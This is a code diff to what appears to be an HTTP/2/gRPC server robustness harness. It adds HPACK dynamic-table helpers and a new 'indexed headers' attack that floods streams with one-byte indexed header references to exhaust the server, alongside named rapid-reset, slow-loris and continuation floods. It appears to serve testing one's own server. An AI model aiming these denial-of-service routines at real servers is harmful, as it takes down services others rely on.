@@ -41,6 +41,16 @@ def field(name: bytes, value: bytes) -> bytes:
     return b"\0" + _text(name) + _text(value)
 
 
+def indexed(name: bytes, value: bytes) -> bytes:
+    """A header field, literal, which the reader keeps in its table (RFC 7541, 6.2.1)."""
+    return b"\x40" + _text(name) + _text(value)
+
+
+def again(place: int) -> bytes:
+    """A header field of the table, the one added last being 0 (RFC 7541, 6.1); at most 64 back."""
+    return bytes((0x80 + 62 + place,))
+
+
 def _text(value: bytes) -> bytes:
     n = len(value)
     if n < 127:
@@ -58,6 +68,19 @@ REQUEST = b"".join(
         (b"content-type", b"application/grpc"), (b"te", b"trailers"),
     )
 )  # fmt: skip
+SHORT = b"\x83\x86"  # :method POST and :scheme http, of the static table
+
+
+def request(path: bytes, *more: tuple[bytes, bytes]) -> tuple[bytes, bytes]:
+    """A call's headers, each added to the table, and the same once it is there: a byte for each."""
+    fields = (
+        (b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more,
+    )  # fmt: skip
+    last = len(fields) - 1
+    first = SHORT + b"".join(indexed(*pair) for pair in fields)
+    return first, SHORT + b"".join(again(last - at) for at in range(len(fields)))
+
+
 HELLO = PREFACE + frame(SETTINGS, 0, 0)
 
 
@@ -73,7 +96,8 @@ class Attacks:
             "random bytes": self.random_bytes, "malformed frames": self.malformed_frames,
             "rapid reset": self.rapid_reset, "settings and pings": self.settings_and_pings,
             "huge headers": self.huge_headers, "endless continuation": self.endless_continuation,
-            "slow loris": self.slow_loris, "mutated messages": self.mutated_messages,
+            "indexed headers": self.indexed_headers, "slow loris": self.slow_loris,
+            "mutated messages": self.mutated_messages,
         }  # fmt: skip
 
     @contextlib.asynccontextmanager
@@ -140,6 +164,15 @@ class Attacks:
             await send(HELLO + frame(HEADERS, 0, 1, REQUEST))
             for _ in range(AT_ONCE):
                 await send(frame(CONTINUATION, 0, 1, part))
+
+    async def indexed_headers(self) -> None:
+        """Calls without a request whose headers are a byte each and take the server hundreds (CVE-2016-6581's kin)."""
+        async with self._connection() as send:
+            path = self._rng.choice(UNARY + STREAMING)[0].encode()
+            first, brief = request(path, (b"x", b"y"))
+            await send(HELLO + frame(HEADERS, END_HEADERS, 1, first))
+            for stream in range(3, 6 * AT_ONCE, 2):
+                await send(frame(HEADERS, END_HEADERS, stream, brief + again(0) * 200))
 
     async def slow_loris(self) -> None:
         """A greeting byte by byte, on 50 connections at once."""
